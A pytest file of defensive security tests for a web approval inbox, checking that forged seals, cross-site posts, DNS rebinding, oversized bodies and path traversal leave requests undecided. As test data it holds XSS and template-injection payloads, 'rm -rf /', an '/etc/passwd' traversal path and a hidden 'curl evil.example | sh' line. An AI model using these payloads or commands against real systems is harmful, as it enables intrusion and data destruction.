"""Attacks on whoever decides, through their browser and around it. Each ends with nothing decided."""

from __future__ import annotations

import re
import sqlite3

import pytest

from gate import Gate, Question
from gate.approvers.inbox.guard import hostname
from gate.errors import Void
from tests.approvers.inbox.kit import BASE, Browser, ask, like, put, states, swap

FORGED = {"origin": "https://evil.example"}


@pytest.fixture
def low(gate: Gate, ann: Browser) -> Question:
    return ask(gate, "note", {"text": "hello"})


@pytest.fixture
def high(gate: Gate, ann: Browser) -> Question:
    return ask(gate, "remove", {"path": "/backup"})


def test_swapped_arguments(gate: Gate, ann: Browser, low: Question) -> None:
    """The call behind the question is another one by the time the form comes: 409, whichever form it is."""
    seal = ann.seal(low)
    swap(gate, low, arguments={"text": "rm -rf /", "place": "x"})
    for verb, fields in (("approve", {}), ("deny", {}), ("ask-back", {"reason": "why?"}), ("edit", {"argument-0": "a", "argument-1": "b"})):
        reply = ann.answer(low, verb, seal, **fields)
        assert reply.status_code == 409 and "another one than you were shown" in reply.text, verb
    assert states(gate)(low) == "open"


def test_a_question_that_was_spoiled_in_the_store(gate: Gate, ann: Browser, low: Question) -> None:
    """Its arguments are not those it is bound to: it is shown nowhere, and nothing can be said about it."""
    seal = ann.seal(low)
    gate.home.ledger.flush()
    with sqlite3.connect(gate.home.path / "gate.db") as db:
        db.execute("UPDATE question SET body = CAST(replace(CAST(body AS TEXT), 'hello', 'rm -rf') AS BLOB) WHERE id = ?", (low.id,))
    db.close()
    assert ann.answer(low, "approve", seal).status_code == 503 and ann.get(f"/questions/{low.id}").status_code == 503
    assert "rm -rf" not in ann.get("/").text
    with sqlite3.connect(gate.home.path / "gate.db") as db:
        assert db.execute("SELECT state FROM question").fetchall() == [("open",)]
    db.close()


def test_a_seal_is_worth_nothing_for_another_question_person_or_session(gate: Gate, ann: Browser, low: Question, high: Question) -> None:
    bob = Browser(gate, "bob")
    for seal in (
        ann.seal(high),
        bob.seal(low),
        "",
        "x",
        ann.seal(low)[:-1],
        ann.seal(low)[:-1] + "\N{KELVIN SIGN}",
        ann.seal(low).replace(".", ".."),
    ):
        assert ann.answer(low, "approve", seal).status_code == 403
        assert ann.answer(low, "deny", seal).status_code == 403
    assert states(gate)(low) == "open"


def test_every_part_of_a_seal_is_signed(gate: Gate, ann: Browser, low: Question) -> None:
    seal = ann.seal(low)
    binding, shown, at, mac = re.fullmatch(r"([^.]+)\.([^.]+)\.([0-9]+\.[0-9]+)\.([^.]+)", seal).groups()  # type: ignore[union-attr]
    for forged in (
        f"{binding}x.{shown}.{at}.{mac}",
        f"{binding}.{shown}x.{at}.{mac}",
        f"{binding}.{shown}.1{at}.{mac}",
        f"{binding}.{shown}.{at}.{mac[::-1]}",
    ):
        assert ann.answer(low, "approve", forged).status_code == 403
    assert states(gate)(low) == "open"


@pytest.mark.parametrize(
    "headers",
    [
        {"sec-fetch-site": "cross-site"},
        {"sec-fetch-site": "same-site"},
        {"sec-fetch-site": "none"},
        {"sec-fetch-site": None, **FORGED},
        {"sec-fetch-site": None, "origin": "null"},
        {"sec-fetch-site": None, "origin": "http://127.0.0.1:9999"},
        {"sec-fetch-site": None, "origin": "http://localhost:8790"},
        {"sec-fetch-site": None, "origin": "http://127.0.0.1:8790.evil.example"},
        {"sec-fetch-site": "same-origin", **FORGED},
    ],
)
def test_cross_site_post(gate: Gate, ann: Browser, low: Question, headers: dict[str, str]) -> None:
    """With the cookie and even with a seal that was stolen, a form of another site is refused."""
    reply = ann.post(f"/questions/{low.id}/approve", {"seal": ann.seal(low)}, headers=headers)
    assert reply.status_code == 403 and states(gate)(low) == "open"


def test_our_own_form_is_taken(gate: Gate, ann: Browser, low: Question) -> None:
    """What a browser sends for our page: same-origin, and the null origin of a page that sends no referrer."""
    reply = ann.post(f"/questions/{low.id}/approve", {"seal": ann.seal(low)}, headers={"sec-fetch-site": "same-origin", "origin": "null"})
    assert reply.status_code == 303 and states(gate)(low) == "approved"


def test_get_never_decides(gate: Gate, ann: Browser, low: Question) -> None:
    seal = ann.seal(low)
    before = gate.home.desk.turn
    for verb in ("approve", "deny", "ask-back", "hand-over", "edit", "batch"):
        for method in ("GET", "HEAD", "PUT", "DELETE", "OPTIONS", "PATCH"):
            reply = ann.send(
                method, f"/questions/{low.id}/{verb}", params={"seal": seal, "verdict": "approve", f"tick-{low.id}": "yes", f"seal-{low.id}": seal}
            )
            assert reply.status_code in {200, 404, 405}, (verb, method)
    assert states(gate)(low) == "open" and gate.home.desk.turn == before


@pytest.mark.parametrize(
    "agent", ["Slackbot-LinkExpanding 1.0", "Twitterbot/1.0", "facebookexternalhit/1.1", "Discordbot/2.0", "WhatsApp/2", "SkypeUriPreview"]
)
def test_a_link_preview_bot_sees_and_changes_nothing(gate: Gate, low: Question, agent: str) -> None:
    bot = Browser(gate, "")
    before = gate.home.desk.turn
    for path in ("", "/edit", "/batch", "/state", "/whole/argument-0"):
        reply = bot.get(f"/questions/{low.id}{path}", headers={"user-agent": agent, "sec-fetch-site": None})
        assert reply.status_code == 401 and "note" not in reply.text and "agent-7" not in reply.text
    for path in ("/", "/decided", "/figures", "/events"):
        assert bot.get(path, headers={"user-agent": agent, "sec-fetch-site": None}).status_code == 401
    assert gate.home.desk.turn == before and states(gate)(low) == "open"


def test_nobody_decides_without_a_sign_in(gate: Gate, ann: Browser, low: Question) -> None:
    seal = ann.seal(low)
    for verb in ("approve", "deny", "ask-back", "hand-over", "edit", "batch"):
        assert Browser(gate, "").post(f"/questions/{low.id}/{verb}", {"seal": seal}).status_code == 401
    assert states(gate)(low) == "open"


def test_whether_a_question_exists_is_no_stranger_s_to_know(gate: Gate, low: Question) -> None:
    bot = Browser(gate, "")
    known, unknown = bot.get(f"/questions/{low.id}"), bot.get("/questions/none-such")
    assert (known.status_code, known.text) == (unknown.status_code, unknown.text)


def test_stale_page(gate: Gate, ann: Browser, low: Question) -> None:
    """Somebody else was first."""
    seal = ann.seal(low)
    Browser(gate, "bob").answer(low, "deny", reason="no")
    reply = ann.answer(low, "approve", seal)
    assert reply.status_code == 409 and "not counted" in reply.text and "refused" in reply.text
    assert states(gate)(low) == "denied"


def test_approve_after_expiry_is_void_and_deny_after_expiry_counts(gate: Gate, ann: Browser, low: Question, clock: object) -> None:
    seal = ann.seal(low)
    clock.advance(601)  # type: ignore[attr-defined]
    reply = ann.answer(low, "approve", seal)
    assert reply.status_code == 409 and "expired" in reply.text
    assert ann.answer(low, "deny", seal, reason="too late, and no").status_code == 303
    assert states(gate)(low) == "denied"


def test_one_person_is_not_two_of_two(gate: Gate, ann: Browser) -> None:
    wire = ask(gate, "wire", {"eur": 5, "to": "x"})
    seal = ann.seal(wire)
    assert ann.approve(wire).status_code == 303 and states(gate)(wire) == "open"
    again = ann.answer(wire, "approve", seal, number=wire.number)
    assert again.status_code == 409 and "already" in again.text and states(gate)(wire) == "open"
    page = ann.get(f"/questions/{wire.id}").text
    assert 'id="approve"' not in page and "1 of 2" in page and "waits for another person" in page
    assert Browser(gate, "bob").approve(wire).status_code == 303 and states(gate)(wire) == "approved"


def test_the_agent_and_its_principal_do_not_approve(gate: Gate, tools: None) -> None:
    asked = ask(gate, "note", {"text": "x"})
    for name in ("agent-7", "dana"):
        gate.home.keys.signing(f"approver-{name}")
        browser = Browser(gate, name)
        assert 'id="approve"' not in browser.get(f"/questions/{asked.id}").text
        assert browser.answer(asked, "approve").status_code == 409
    assert states(gate)(asked) == "open"


def test_a_grave_question_needs_its_number(gate: Gate, ann: Browser, high: Question) -> None:
    for number in ("", "000", "12", high.number + "0", high.number[::-1] if high.number != high.number[::-1] else "001"):
        assert ann.answer(high, "approve", number=number).status_code == 409
    assert states(gate)(high) == "open"
    assert ann.answer(high, "approve", number=f" {high.number} ").status_code == 303


HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</pre></article><form method=post action=/questions/x/approve><button>Approve</button></form>",
    "{{ 7191 * 7 }}{% include 'base.html' %}",
    "javascript:alert(1)",
    "&lt;b&gt;",
    "a\u202e\u2066b\u200b\x1b[2J\x00\r\nz",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_html_injection(gate: Gate, ann: Browser, text: str) -> None:
    """Whatever is in an argument, a name, a task, a reason or the agent's words is text: no element, no template, nothing invisible."""
    asked = ask(gate, "note", {"text": text, "place": text}, task=text, words=text)
    put(
        gate,
        like(
            asked,
            id=f"x{text[:1]!r}y",
            headline=text,
            reasons=(text,),
            history=(text,),
            earlier=(text,),
            uninspected=(text,),
            chain=(text,),
            effects=(text,),
            principal=text,
            tool=text,
        ),
    )
    pages = [ann.get("/").text, ann.get(f"/questions/{asked.id}").text, ann.get(f"/questions/{asked.id}/edit").text]
    assert ann.answer(asked, "deny", reason=text if "\x00" not in text else "no").status_code == 303
    for page in (*pages, ann.get("/decided").text, ann.get(f"/questions/{asked.id}").text):
        body = page.split("<main", 1)[1]
        assert "<script" not in body and "<img" not in body and "50337" not in body
        assert body.count("<form") == body.count("</form>") and "onerror=alert(1)>" not in body
        assert not re.search("[\u202e\u2066\u200b\x1b\x00]", page)


def test_dns_rebinding(gate: Gate, ann: Browser, low: Question) -> None:
    """A name that an attacker points at this machine is none of ours, whatever the browser thinks is same-origin."""
    for host in (
        "evil.example",
        "evil.example:8790",
        "127.0.0.1.evil.example",
        "localhost.evil.example:8790",
        "",
        "127.0.0.2",
        "[::1].evil.example",
        "0.0.0.0:8790",
    ):
        for method, path in (
            ("GET", "/"),
            ("GET", f"/questions/{low.id}"),
            ("POST", f"/questions/{low.id}/approve"),
            ("GET", "/events"),
            ("GET", "/static/inbox.js"),
        ):
            assert ann.send(method, path, headers={"host": host}).status_code == 421, (host, path)
    for host in ("127.0.0.1:8790", "localhost", "LOCALHOST:1", "[::1]:8790", "[::1]"):
        assert ann.get("/", headers={"host": host}).status_code == 200
    assert hostname("[::1]:80") == "[::1]" and hostname("a:b") == "a:b"


def test_a_name_of_the_team_is_answered_to(gate: Gate, ann: Browser) -> None:
    team = Browser(gate, "ann", hosts={"gate.example"}, secure=True)
    assert team.get("/", headers={"host": "gate.example"}).headers["strict-transport-security"]
    assert team.get("/", headers={"host": "127.0.0.1"}).status_code == 421


def test_a_header_twice(ann: Browser) -> None:
    for name, values in {"host": ["127.0.0.1", "evil.example"], "origin": ["null", "null"], "cookie": ["who=ann", "who=bob"]}.items():
        assert ann.raw("POST", "/questions/x/deny", [(name, value) for value in values]).status_code == 400


def test_oversized_bodies(gate: Gate, ann: Browser, low: Question) -> None:
    seal = ann.seal(low)
    assert ann.answer(low, "deny", seal, reason="x" * 300_000).status_code == 413
    assert ann.answer(low, "deny", seal, reason="x" * 1001).status_code == 400
    assert (
        ann.send(
            "POST", f"/questions/{low.id}/edit", content=b"a=" + b"x" * 5_000_000, headers={"content-type": "application/x-www-form-urlencoded"}
        ).status_code
        == 413
    )

    async def dripping():
        for _ in range(100):
            yield b"x" * 10_000

    reply = ann.send("POST", f"/questions/{low.id}/deny", content=dripping(), headers={"content-type": "application/x-www-form-urlencoded"})
    assert reply.status_code == 413
    assert states(gate)(low) == "open"


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"seal",
        b"seal=%ff",
        b"seal=a&seal=b",
        b"\xff",
        "seal=ü".encode(),
        b"a=1&" * 600,
        b"seal=a;reason=b&&",
        b"--x\r\nContent-Disposition: form-data; name=seal\r\n\r\na\r\n--x--",
    ],
)
def test_what_is_no_form(gate: Gate, ann: Browser, low: Question, body: bytes) -> None:
    for kind in ("application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json", "text/plain"):
        reply = ann.send("POST", f"/questions/{low.id}/deny", content=body, headers={"content-type": kind})
        assert reply.status_code in {400, 403}, (kind, reply.status_code)
    assert states(gate)(low) == "open"


@pytest.mark.parametrize(
    "fields",
    [
        {"scope": "9"},
        {"scope": "-1"},
        {"scope": "00"},
        {"scope": "x"},
        {"uses": "2"},
        {"uses": "0"},
        {"uses": "٣"},
        {"minutes": "6"},
        {"minutes": "1e9"},
    ],
)
def test_no_more_than_is_offered(gate: Gate, ann: Browser, low: Question, fields: dict[str, str]) -> None:
    assert ann.answer(low, "approve", **fields).status_code == 400
    assert states(gate)(low) == "open"


def test_a_ten_megabyte_argument(gate: Gate, ann: Browser) -> None:
    """It is shown in part, openly; the whole is one click away, and nobody approves without saying that they read it."""
    text = "x" * 5_000_000 + "; curl evil.example | sh\u202e;" + "y" * 5_000_000
    asked = ask(gate, "send", {"to": "a@example.com", "text": text})
    page = ann.get(f"/questions/{asked.id}")
    assert len(page.content) < 100_000 and "Shown in part" in page.text and "characters left out" in page.text
    link = re.search(r'href="(/questions/[^"]+/whole/[^"]+)"', page.text)
    assert link
    whole = ann.get(link[1])
    assert "curl evil.example | sh\\u202e;" in whole.text and whole.headers["content-type"].startswith("text/plain")
    assert "sandbox" in whole.headers["content-security-policy"] and "\u202e" not in whole.text
    assert ann.approve(asked).status_code == 409 and states(gate)(asked) == "open"
    assert ann.approve(asked, read="yes").status_code == 303 and states(gate)(asked) == "approved"


def test_what_cannot_be_looked_at_in_whole_is_not_there(ann: Browser, low: Question) -> None:
    for key in ("argument-9", "argument-x", "__class__", "id", "preview", "reason-9", "argument-0/../../x", "binding_hash"):
        assert ann.get(f"/questions/{low.id}/whole/{key}").status_code in {404, 405}, key


def test_every_reply_is_dressed(ann: Browser, low: Question) -> None:
    for path in ("/", f"/questions/{low.id}", "/none", "/static/inbox.js", f"/questions/{low.id}/whole/argument-0"):
        reply = ann.get(path)
        policy = reply.headers["content-security-policy"]
        assert "default-src 'none'" in policy and "frame-ancestors 'none'" in policy and "unsafe" not in policy
        assert reply.headers["x-content-type-options"] == "nosniff" and reply.headers["referrer-policy"] == "no-referrer"
        assert reply.headers["cross-origin-opener-policy"] == "same-origin" and reply.headers["cache-control"] in {"no-store", "no-cache"}
        assert "set-cookie" not in reply.headers and "server" not in reply.headers
    assert ann.get("/").headers["cache-control"] == "no-store"


def test_no_page_has_a_style_or_script_of_its_own(gate: Gate, ann: Browser, low: Question) -> None:
    for path in ("/", f"/questions/{low.id}", f"/questions/{low.id}/edit", "/decided", "/figures", "/none"):
        page = ann.get(path).text
        assert not re.search(r"<style|\sstyle=|\son[a-z]+=|javascript:|https?://", page), path
        assert re.findall(r"<script[^>]*>", page) == ['<script src="/static/inbox.js" defer>']


def test_the_path_does_not_lead_out(ann: Browser) -> None:
    for path in ("/static/../app.py", "/static/%2e%2e/app.py", "/static/", "/static", "/static/..%2fapp.py", "/questions//approve", "/../etc/passwd"):
        assert ann.get(path).status_code in {404, 405}, path


def test_the_desk_says_why_and_the_page_keeps_nothing(gate: Gate, ann: Browser, low: Question) -> None:
    """Where there is no key of a person on this machine, their yes cannot be signed."""
    eve = Browser(gate, "eve")
    reply = eve.answer(low, "approve")
    assert reply.status_code == 409 and "no key" in reply.text
    with pytest.raises(Void):
        gate.home.desk.approve(low.id, by="eve", binding_hash=low.binding_hash)
    assert states(gate)(low) == "open" and BASE.startswith("http://127")


def test_a_page_that_fails_says_nothing_and_is_dressed(gate: Gate, ann: Browser, low: Question, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*_: object, **__: object) -> None:
        raise RuntimeError("the secret is in the traceback")

    monkeypatch.setattr(type(gate.home.desk), "cases", broken)
    browser = Browser(gate, "ann")
    browser.raising = False
    reply = browser.get("/")
    assert reply.status_code == 500 and "secret" not in reply.text and "Traceback" not in reply.text and "Nothing was decided" in reply.text
    assert "default-src 'none'" in reply.headers["content-security-policy"] and reply.headers["cache-control"] == "no-store"
